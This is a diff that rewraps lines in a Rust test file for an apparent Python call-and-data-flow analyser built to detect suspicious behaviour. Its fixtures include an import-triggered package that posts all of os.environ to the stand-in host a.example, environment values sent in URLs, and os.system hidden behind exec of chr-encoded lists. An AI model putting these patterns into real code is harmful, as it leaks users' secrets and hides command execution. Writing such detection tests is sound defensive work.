@@ -12,7 +12,8 @@ fn a_call_is_named_through_an_import_alias() {
 
 #[test]
 fn a_call_is_named_through_assignment_and_attribute_chains() {
-    let source = "import subprocess\nclass T: pass\nt = T()\nt.run = subprocess.Popen\nf = t.run\nf(['echo', 'a'])";
+    let source =
+        "import subprocess\nclass T: pass\nt = T()\nt.run = subprocess.Popen\nf = t.run\nf(['echo', 'a'])";
     assert_eq!(calls(source), ["subprocess.Popen"]);
 }
 
@@ -65,7 +66,8 @@ fn layers_nest() {
 
 #[test]
 fn a_character_list_is_joined_and_executed() {
-    let codes: Vec<String> = "import os;os.system('echo a')".chars().map(|c| (c as u32).to_string()).collect();
+    let codes: Vec<String> =
+        "import os;os.system('echo a')".chars().map(|c| (c as u32).to_string()).collect();
     let source = format!("exec(''.join(map(chr, [{}])))", codes.join(","));
     assert_eq!(event(&source, "os.system").site.layer, 1);
     let source = format!("exec(''.join(chr(c) for c in [{}]))", codes.join(","));
@@ -117,8 +119,16 @@ b.send()
 #[test]
 fn flow_goes_across_files() {
     let analysis = analysis_of(&[
-        ("pkg/__init__.py", "from .net import send\nfrom . import env\nsend(env.all_of_it())", Trigger::Import),
-        ("pkg/net.py", "import requests\ndef send(d):\n    requests.post('http://a.example', data=d)", Trigger::Run),
+        (
+            "pkg/__init__.py",
+            "from .net import send\nfrom . import env\nsend(env.all_of_it())",
+            Trigger::Import,
+        ),
+        (
+            "pkg/net.py",
+            "import requests\ndef send(d):\n    requests.post('http://a.example', data=d)",
+            Trigger::Run,
+        ),
         ("pkg/env.py", "import os\ndef all_of_it():\n    return str(os.environ)", Trigger::Run),
     ]);
     let post = analysis.events.iter().find(|e| &*e.name == "requests.post").expect("the call is reached");
@@ -147,7 +157,8 @@ fn both_branches_are_taken_and_the_condition_is_kept() {
 fn values_of_both_branches_are_kept() {
     let source = "import os\nif os.name == 'nt':\n    c = 'one'\nelse:\n    c = 'two'\nos.system(c)";
     let system = event(source, "os.system");
-    let texts: Vec<&str> = system.arguments.iter().filter_map(|a| a.value.as_ref()).map(|v| &*v.text).collect();
+    let texts: Vec<&str> =
+        system.arguments.iter().filter_map(|a| a.value.as_ref()).map(|v| &*v.text).collect();
     assert!(texts.contains(&"one") && texts.contains(&"two"), "{texts:?}");
 }
 
@@ -203,7 +214,8 @@ fn python_two_gives_events() {
 
 #[test]
 fn code_for_another_interpreter_is_a_layer() {
-    let source = "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import os; os.system('a')\"])";
+    let source =
+        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import os; os.system('a')\"])";
     assert_eq!(event(source, "os.system").site.layer, 1);
 }
 
@@ -229,6 +241,7 @@ fn an_endless_loop_ends_within_the_budget() {
 
 #[test]
 fn two_runs_agree() {
-    let source = "import os, requests\nfor k in ['a', 'b']:\n    requests.get('http://a.example/' + k + os.getenv(k))";
+    let source =
+        "import os, requests\nfor k in ['a', 'b']:\n    requests.get('http://a.example/' + k + os.getenv(k))";
     assert_eq!(events_of(source), events_of(source));
 }
